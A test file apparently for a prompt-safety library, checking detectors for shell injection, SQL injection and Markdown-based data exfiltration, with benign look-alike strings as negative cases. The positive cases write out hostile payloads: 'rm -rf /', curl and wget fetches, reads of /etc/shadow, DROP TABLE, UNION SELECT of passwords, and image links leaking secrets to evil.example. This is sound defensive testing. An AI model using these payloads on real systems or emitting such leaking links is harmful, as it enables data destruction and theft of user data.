import { describe, expect, it } from 'vitest'
import { exfiltration } from './exfiltration.ts'
import { shellInjection } from './shell.ts'
import { sqlInjection } from './sql.ts'

describe('shell commands in a parameter', () => {
  it.each([
    ['report.pdf; rm -rf /', 'command_chain'],
    ['8.8.8.8 && curl http://198.51.100.7/a', 'command_chain'],
    ['x || wget http://198.51.100.7/a -O /tmp/a', 'command_chain'],
    ['a\ncat /etc/passwd', 'command_chain'],
    ['name $(whoami)', 'command_substitution'],
    ['name `id`', 'command_substitution'],
    ['$(/bin/cat /etc/shadow)', 'command_substitution'],
    ['file.txt | bash', 'command_pipe'],
    ['x > /etc/crontab', 'redirection'],
  ])('%j', (value, rule) => expect(shellInjection(value)).toBe(rule))

  it.each([
    'Tom & Jerry',
    'a; b',
    'Paris; find me a hotel near the station',
    'price > 100 | in stock',
    'echo',
    'R&D; sales',
    '5 | 6',
    "rock 'n' roll",
    '`name`',
    'https://example.com/?a=1&id=2',
    'Smith; cat lover',
    'AT&T type plans',
    'costs $(50)',
  ])('not %j', (value) => expect(shellInjection(value)).toBeUndefined())
})

describe('SQL in a parameter', () => {
  it.each([
    ["' OR '1'='1", 'tautology'],
    ["admin' or 1=1 --", 'tautology'],
    ["x' OR 'a'='a' /*", 'tautology'],
    ['1 or 1=1', 'tautology'],
    ["' UNION SELECT username, password FROM users", 'union_select'],
    ['1 UNION/**/ALL/**/SELECT null', 'union_select'],
    ["Robert'); DROP TABLE students;--", 'stacked_statement'],
    ['1; DELETE FROM orders', 'stacked_statement'],
    ["admin'--", 'comment_cut'],
    ['1 AND sleep(5)', 'time_delay'],
    ["'; WAITFOR DELAY '0:0:5'--", 'stacked_statement'],
    ['1 AND (SELECT 1 FROM information_schema.tables)', 'schema_probe'],
  ])('%j', (value, rule) => expect(sqlInjection(value)).toBe(rule))

  it.each([
    "O'Brien",
    "rock 'n' roll",
    'Select a union of both, please',
    'yes or no',
    'either 1 or 2',
    "it's 5 or 6; drop by tomorrow",
    'SELECT name FROM users WHERE id = 7',
    'the European Union selects members',
    'price = 5 or less',
    'update me; set an alarm',
    "the '90s -- what a time",
    'sleep well',
  ])('not %j', (value) => expect(sqlInjection(value)).toBeUndefined())
})

describe('data carried out by Markdown', () => {
  const base64 = Buffer.from('the secret is hunter2, name: Ada').toString('base64url')
  it.each([
    [`![x](https://evil.example/p.png?d=${base64})`, 'image'],
    ['![x](https://evil.example/?q=my%20card%20number%20is%204111)', 'image'],
    ['![x](https://evil.example/log?data={conversation})', 'image'],
    ['![x](https://evil.example/log?data=[USER_DATA])', 'image'],
    ['<img width="1" src="https://evil.example/i?mail=ada@example.org">', 'image'],
    [`[click](https://evil.example/${base64})`, 'link'],
    [`[ref]: https://evil.example/?x=${base64}`, 'link'],
  ])('%j', (text, by) => expect(exfiltration(text, [])).toEqual({ by, host: 'evil.example' }))

  it.each([
    '![logo](https://cdn.example.com/logo.png?w=640&h=480&fit=crop)',
    '![build](https://img.shields.io/npm/v/weir?style=flat&colorA=18181B&label=latest%20version)',
    '[search](https://www.google.com/search?q=how+to+cook+rice+in+a+pan)',
    '[profile](https://example.com/users/ada@example.org)',
    '![chart](https://example.com/0f8fad5b-d9cb-469f-a165-70867728950e.png)',
    '![hash](https://example.com/d41d8cd98f00b204e9800998ecf8427e.png)',
    'see [1] and (https://example.com/?q=a%20b%20c%20d%20e%20f%20g)',
  ])('not %j', (text) => expect(exfiltration(text, [])).toBeUndefined())

  it('trusts hosts, and what is below them, but not what ends alike', () => {
    const to = (host: string): string => `![x](https://${host}/?d=${base64})`
    expect(exfiltration(to('img.corp.example'), ['corp.example'])).toBeUndefined()
    expect(exfiltration(to('evilcorp.example'), ['corp.example'])?.host).toBe('evilcorp.example')
    expect(exfiltration(to('corp.example@evil.example'), ['corp.example'])?.host).toBe('evil.example')
  })
})
